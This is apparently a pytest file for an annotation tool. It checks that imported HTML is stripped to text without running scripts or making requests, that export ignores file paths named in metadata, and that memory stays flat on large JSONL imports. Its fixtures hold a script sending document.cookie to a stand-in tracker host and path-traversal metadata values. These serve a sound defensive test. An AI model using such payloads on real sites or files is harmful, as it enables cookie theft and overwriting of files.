"""Hostile input: scripts and remote images never run or load, metadata never names a file."""

from __future__ import annotations

import json
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from annotator.core.project import Project

HOSTILE_HTML = """<!DOCTYPE html><html><head><title>Floods in Kathmandu</title>
<script>fetch("http://tracker.invalid/ping?c=" + document.cookie)</script>
<link rel="stylesheet" href="http://tracker.invalid/style.css">
</head><body><article><h1>Floods in Kathmandu</h1>
<p>Heavy rain closed roads in Kathmandu on Monday, officials said.</p>
<img src="http://tracker.invalid/pixel.png" onerror="alert('x')">
<iframe src="http://tracker.invalid/frame"></iframe>
<p>Rescue teams from Nepal and India reached the valley by evening.</p>
<script>alert("second")</script></article></body></html>"""


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """Record, and refuse, every attempt to resolve a name or open a connection."""
    attempts: list[object] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(args)
        raise OSError("network access attempted")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    return attempts


def test_html_scripts_and_remote_content_become_plain_text_without_a_request(
    project_path: Path, tmp_path: Path, no_network: list[object]
) -> None:
    page = tmp_path / "floods.html"
    page.write_text(HOSTILE_HTML, encoding="utf-8")
    with Project.open(project_path) as project:
        report = project.import_paths([page])
        text = project.text(1)
    assert report.documents_added == 1
    assert "Heavy rain closed roads in Kathmandu" in text
    assert "Rescue teams from Nepal and India" in text
    for fragment in ("alert", "fetch(", "<script", "<img", "tracker.invalid", "onerror"):
        assert fragment not in text
    assert no_network == []


def test_metadata_naming_paths_is_never_written_to(project_path: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep", encoding="utf-8")
    source = tmp_path / "in.jsonl"
    rows = [
        {"text": "Nepal and India traded.", "meta": {"file": str(victim), "title": "../../victim"}},
        {"text": "A second article.", "meta": {"path": "../victim.txt", "source": str(victim)}},
    ]
    source.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    out = tmp_path / "out"
    with Project.open(project_path) as project:
        project.import_paths([source])
        project.edits.add_span(1, "tester", 0, 5, "GPE")
        project.edits.add_span(2, "tester", 2, 8, "GPE")
        for fmt in ("spacy", "prodigy", "doccano"):
            project.export(out / fmt, fmt=fmt, annotator="tester", include_unfinished=True)
    assert victim.read_text(encoding="utf-8") == "keep"
    written = sorted(p.relative_to(out).parts[0] for p in out.rglob("*") if p.is_file())
    assert set(written) == {"spacy", "prodigy", "doccano"}


STREAM_PROBE = """
import json, resource, sys, tempfile
from pathlib import Path
from annotator.core.project import Project
count = int(sys.argv[1])
folder = Path(tempfile.mkdtemp())
source = folder / "big.jsonl"
with source.open("w", encoding="utf-8") as handle:
    for i in range(count):
        row = {"text": f"Article {i}: " + "Nepal and India traded power. " * 50}
        handle.write(json.dumps(row) + "\\n")
with Project.open(folder / "p.annotator") as project:
    project.import_paths([source])
    assert project.document_count() == count
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


def test_a_large_jsonl_is_streamed_with_flat_memory() -> None:
    """Peak memory for 4x the articles (about 60 MB against 15 MB) grows by little."""
    peaks = []
    for count in (10_000, 40_000):
        result = subprocess.run(
            [sys.executable, "-c", STREAM_PROBE, str(count)],
            capture_output=True,
            text=True,
            timeout=600,
            check=True,
        )
        peaks.append(int(result.stdout.split()[-1]) / 1024)
    small, large = peaks
    assert large - small < 40, f"peak memory {small:.0f} MB -> {large:.0f} MB"
